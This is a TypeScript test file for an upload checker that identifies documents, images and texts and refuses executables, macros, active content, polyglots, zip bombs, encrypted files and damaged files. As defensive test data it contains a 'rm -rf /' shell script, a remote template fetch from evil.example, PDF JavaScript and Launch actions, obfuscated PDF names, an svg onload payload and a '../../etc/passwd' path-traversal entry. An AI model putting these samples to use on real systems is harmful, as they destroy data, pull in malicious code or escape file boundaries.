// What people may attach, and what is refused whatever it is called.
import assert from 'node:assert/strict'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { after, test } from 'node:test'
import { crc32, deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { strToU8, zipSync } from 'fflate'
import { makeZipBomb, zipDocx } from '../../tests/support/docx.ts'
import { makePdf } from '../../tests/support/pdf.ts'
import { checkFile } from './check.ts'
import type { FileRefusal } from './kinds.ts'

const folder = mkdtempSync(path.join(tmpdir(), 'puente-check-'))
after(() => rmSync(folder, { recursive: true }))

async function check(name: string, bytes: Buffer | string): Promise<string> {
  const file = path.join(folder, 'upload')
  writeFileSync(file, bytes)
  const checked = await checkFile(file, name)
  return checked.ok ? checked.type : checked.refusal
}

const isRefused = async (name: string, bytes: Buffer | string, refusal: FileRefusal) =>
  assert.equal(await check(name, bytes), refusal, name)

const main = (kind: string) => `application/vnd.openxmlformats-officedocument.${kind}.main+xml`
const types = (main: string) =>
  `<Types><Override PartName="/x.xml" ContentType="${main}"/></Types>`
const openXml = (kind: string, parts: Record<string, string> = {}) =>
  zipDocx({ '[Content_Types].xml': types(main(kind)), 'x.xml': '<x/>', ...parts })
const docx = openXml('wordprocessingml.document')
const openDocument = (kind: string, parts: Record<string, string> = {}) => Buffer.from(zipSync({
  mimetype: [strToU8(`application/vnd.oasis.opendocument.${kind}`), { level: 0 }],
  'content.xml': strToU8('<office:document-content/>'),
  ...Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])),
}))

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}
const png = Buffer.concat([
  Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
  chunk('IHDR', Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0])),
  chunk('IDAT', deflateSync(Buffer.from([0, 0]))), chunk('IEND', Buffer.alloc(0)),
])
const jpeg = Buffer.concat([
  Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), Buffer.from('ffd9', 'hex'),
])
const webp = Buffer.from('RIFF\x16\0\0\0WEBPVP8L\x0a\0\0\0/\0\0\0\0\0\0\0\0\0', 'latin1')
const pdf = makePdf(['One page'])

test('documents, pictures and texts are taken for what they are', async () => {
  assert.equal(await check('a.pdf', pdf), 'application/pdf')
  assert.equal(await check('A.PDF', pdf), 'application/pdf')
  assert.equal(await check('a.png', png), 'image/png')
  assert.equal(await check('a.jpg', jpeg), 'image/jpeg')
  assert.equal(await check('a.jpeg', jpeg), 'image/jpeg')
  assert.equal(await check('a.webp', webp), 'image/webp')
  assert.equal(await check('a.txt', 'Señal\r\n\tÑandú 😀\n'), 'text/plain')
  assert.equal(await check('a.csv', '\uFEFFa,b\n1,2\n'), 'text/csv')
  assert.equal(await check('bundle.json', '{"type":"bundle","objects":[]}'), 'application/json')
  assert.match(await check('a.docx', docx), /wordprocessingml\.document$/)
  assert.match(await check('a.xlsx', openXml('spreadsheetml.sheet')), /spreadsheetml\.sheet$/)
  assert.match(await check('a.pptx', openXml('presentationml.presentation')), /presentation$/)
  assert.match(await check('a.odt', openDocument('text')), /opendocument\.text$/)
  assert.match(await check('a.ods', openDocument('spreadsheet')), /opendocument\.spreadsheet$/)
})

test('a program is a program, whatever it is called', async () => {
  const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])
  for (const name of ['a.exe', 'a.pdf', 'a.txt', 'report.pdf.exe']) {
    await isRefused(name, exe, 'executable')
  }
  const elf = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(64)])
  await isRefused('a.png', elf, 'executable')
  await isRefused('a.txt', '#!/bin/sh\nrm -rf /\n', 'executable')
})

test('pages, pictures with scripts and scripts are none of the kinds', async () => {
  await isRefused('a.html', '<!doctype html><script>alert(1)</script>', 'unknown-kind')
  await isRefused('a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', 'unknown-kind')
  await isRefused('a.js', 'alert(1)', 'unknown-kind')
  await isRefused('a.eml', 'From: ana@example.org\n\nHello', 'unknown-kind')
  await isRefused('a.zip', Buffer.from(zipSync({ 'a.txt': strToU8('a') })), 'unknown-kind')
  await isRefused('nothing', 'text without an extension', 'unknown-kind')
})

test('a name that promises something else is refused', async () => {
  await isRefused('a.txt', '  <!DOCTYPE html><html></html>', 'not-what-its-name-says')
  await isRefused('a.csv', '<svg onload="alert(1)">', 'not-what-its-name-says')
  await isRefused('a.pdf', png, 'not-what-its-name-says')
  await isRefused('a.docx', pdf, 'not-what-its-name-says')
  await isRefused('a.docx', openXml('spreadsheetml.sheet'), 'not-what-its-name-says')
  await isRefused('a.png', 'just text', 'not-what-its-name-says')
  await isRefused('a.pdf', Buffer.from('GIF89a\x01\0\x01\0\0\0\0', 'latin1'), 'not-what-its-name-says')
})

test('macros are refused, those that are fetched on opening too', async () => {
  const [word, sheet] = ['wordprocessingml.document', 'spreadsheetml.sheet']
  await isRefused('a.docx', openXml(word, { 'word/vbaProject.bin': 'x' }), 'macros')
  await isRefused('a.xlsx', openXml(sheet, { 'xl/macrosheets/sheet1.xml': '<x/>' }), 'macros')
  const named = zipDocx({
    '[Content_Types].xml': types('application/vnd.ms-word.document.macroEnabled.main+xml'),
  })
  await isRefused('a.docx', named, 'macros')
  const fetched = '<Relationships><Relationship Type="http://x/attachedTemplate" ' +
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
  await isRefused('a.docx', openXml(word, { 'word/_rels/settings.xml.rels': fetched }), 'macros')
  await isRefused('a.odt', openDocument('text', { 'Basic/script-lb.xml': '<x/>' }), 'macros')
})

test('macros are found by what they are, whatever they are called and wherever they lie', async () => {
  const word = 'wordprocessingml.document'
  const relation = (type: string, more = '') =>
    `<Relationships><Relationship Type="http://x/${type}" Target="a.bin" ${more}/></Relationships>`
  // Office programs find a project by its relation, and the settings in any folder.
  const project = { 'word/_rels/document.xml.rels': relation('relationships/vbaProject') }
  await isRefused('a.docx', openXml(word, { ...project, 'word/a.bin': 'x' }), 'macros')
  const template = relation('attachedTemplate', 'TargetMode="External"')
  await isRefused('a.docx', openXml(word, { 'other/_rels/set.xml.rels': template }), 'macros')
  const veiled = types('application/vnd.ms-word.document.macro&#69;nabled.main+xml')
  await isRefused('a.docx', zipDocx({ '[Content_Types].xml': veiled }), 'damaged')
  const compound = `${'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'}${'\0'.repeat(2_000)}`
  const parts = { '[Content_Types].xml': strToU8(types(main(word))), 'x.xml': strToU8('<x/>') }
  const hidden = { ...parts, 'word/media/image1.png': strToU8(compound, true) }
  await isRefused('a.docx', Buffer.from(zipSync(hidden)), 'active')
  await isRefused('a.docx', Buffer.from(zipSync(hidden, { level: 0 })), 'active')
})

test('what acts when a document is opened is refused', async () => {
  const word = 'wordprocessingml.document'
  await isRefused('a.docx', openXml(word, { 'word/embeddings/oleObject1.bin': 'x' }), 'active')
  await isRefused('a.docx', openXml(word, { 'word/activeX/activeX1.xml': '<x/>' }), 'active')
  await isRefused('a.docx', openXml(word, { 'word/embeddings/open-me.lnk': 'x' }), 'active')
  const chart = openXml(word, { 'word/embeddings/Sheet1.xlsx': 'x' })
  assert.match(await check('a.docx', chart), /document$/)
  const text = pdf.toString('latin1')
  const acting = text.replace('%%EOF', '<< /S /JavaScript /JS (app.alert(1)) >>\n%%EOF')
  await isRefused('a.pdf', Buffer.from(acting, 'latin1'), 'active')
  await isRefused('a.pdf', Buffer.from(text.replace('%%EOF', '/Launch\n%%EOF'), 'latin1'), 'active')
})

/** A PDF with an object stream (ISO 32000-2 §7.5.7) and whatever comes after its dictionary. */
function packed(
  objects: string,
  { type = '/ObjStm', filter = '/Filter /FlateDecode', bytes = deflateSync(objects) } = {},
) {
  const head = `<< /Type ${type} /N 1 /First 4 /Length ${bytes.length} ${filter} >>`
  return Buffer.concat([
    pdf, Buffer.from(`\n9 0 obj\n${head}\nstream\n`), bytes,
    Buffer.from('\nendstream endobj\n%%EOF\n'),
  ])
}

test('what acts in a PDF is found in packed objects and in names written as numbers', async () => {
  const script = '1 0 << /S /JavaScript /JS (app.alert(1)) >>'
  assert.equal(await check('a.pdf', packed('1 0 << /Type /Font >>')), 'application/pdf')
  await isRefused('a.pdf', packed(script), 'active')
  await isRefused('a.pdf', packed(script, { type: '/Obj#53tm' }), 'active')
  await isRefused('a.pdf', packed(`1 0 (${'x'.repeat(200_000)}) ${script}`), 'active')
  const text = pdf.toString('latin1').replace('%%EOF', '<< /S /J#61vaScript >>\n%%EOF')
  await isRefused('a.pdf', Buffer.from(text, 'latin1'), 'active')
})

test('objects of a PDF that nobody can look into are refused', async () => {
  await isRefused('a.pdf', packed('', { bytes: Buffer.from('encrypted or packed otherwise') }),
    'encrypted')
  await isRefused('a.pdf', packed('1 0 <<>>', {
    filter: '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>',
  }), 'damaged')
  const plain = { filter: '', bytes: Buffer.from('1 0 << /Type /Font >>') }
  assert.equal(await check('a.pdf', packed('', plain)), 'application/pdf')
  const bomb = deflateSync(Buffer.alloc(250_000_000))
  await isRefused('a.pdf', packed('', { bytes: bomb }), 'bomb')
})

test('two files in one are refused', async () => {
  await isRefused('a.pdf', Buffer.concat([Buffer.from('GARBAGE\n'), pdf]), 'polyglot')
  await isRefused('a.pdf', Buffer.concat([pdf, docx]), 'polyglot')
  await isRefused('a.pdf', Buffer.concat([pdf, Buffer.alloc(5000, 'x')]), 'polyglot')
  await isRefused('a.png', Buffer.concat([png, docx]), 'polyglot')
  await isRefused('a.jpg', Buffer.concat([jpeg, docx]), 'polyglot')
  await isRefused('a.webp', Buffer.concat([webp, Buffer.from('more')]), 'polyglot')
  await isRefused('a.docx', Buffer.concat([docx, Buffer.from('more')]), 'polyglot')
})

test('an archive that would fill a disk is refused without unpacking it', async () => {
  const bomb = makeZipBomb(60)
  const begun = performance.now()
  await isRefused('a.docx', bomb, 'bomb')
  assert.ok(performance.now() - begun < 2_000)
  // Many parts of the directory that share one part's bytes.
  const parts = [0, 1, 2].map((at) => [`word/${at}.xml`, 'x'.repeat(5_000)])
  const shared = openXml('wordprocessingml.document', Object.fromEntries(parts))
  const mark = Buffer.from('PK\x01\x02', 'latin1')
  for (let at = shared.indexOf(mark); at >= 0; at = shared.indexOf(mark, at + 4)) {
    shared.writeUInt32LE(shared.length, at + 20)
  }
  await isRefused('a.docx', shared, 'bomb')
})

test('what nobody can look into is refused', async () => {
  const locked = Buffer.from(docx)
  const directory = locked.indexOf('PK\x01\x02', 0, 'latin1')
  locked.writeUInt16LE(locked.readUInt16LE(directory + 8) | 1, directory + 8)
  await isRefused('a.docx', locked, 'encrypted')
  const compound = Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1024),
    Buffer.from('EncryptedPackage', 'utf16le'),
  ])
  await isRefused('a.docx', compound, 'encrypted')
  const manifest = { 'META-INF/manifest.xml': '<manifest:encryption-data/>' }
  await isRefused('a.odt', openDocument('text', manifest), 'encrypted')
})

test('what is broken is refused', async () => {
  await isRefused('a.txt', '', 'empty')
  await isRefused('a.pdf', pdf.subarray(0, 200), 'damaged')
  await isRefused('a.png', png.subarray(0, -12), 'damaged')
  await isRefused('a.docx', docx.subarray(0, -40), 'damaged')
  await isRefused('a.json', '{"type":', 'damaged')
  const climbing = openXml('wordprocessingml.document', { '../../etc/passwd': 'x' })
  await isRefused('a.docx', climbing, 'damaged')
})

test('a text is UTF-8 without control characters', async () => {
  await isRefused('a.txt', Buffer.from('Se\xf1al', 'latin1'), 'not-text')
  await isRefused('a.csv', 'a\u0000b', 'not-text')
  await isRefused('a.txt', '\u001b]0;title\u0007', 'not-text')
  await isRefused('a.json', '"\u009b"', 'not-text')
  // A letter that falls between two reads of the disk is a letter still.
  assert.equal(await check('a.txt', `${'x'.repeat(65_535)}ñ`), 'text/plain')
})

test('a file damaged anywhere is answered, never a bug', async () => {
  const damaged = fc.tuple(
    fc.constantFrom(docx, pdf, png, webp, openDocument('text')), fc.nat(), fc.nat(255),
    fc.boolean(),
  )
  await fc.assert(fc.asyncProperty(damaged, async ([bytes, where, value, isCut]) => {
    const at = where % bytes.length
    const other = isCut ? bytes.subarray(0, at) : Buffer.from(bytes)
    if (!isCut) other[at] = value
    assert.match(await check('a.docx', other), /^[a-z-]+(\/[\w.-]+)?$/)
  }), { numRuns: 400 })
})
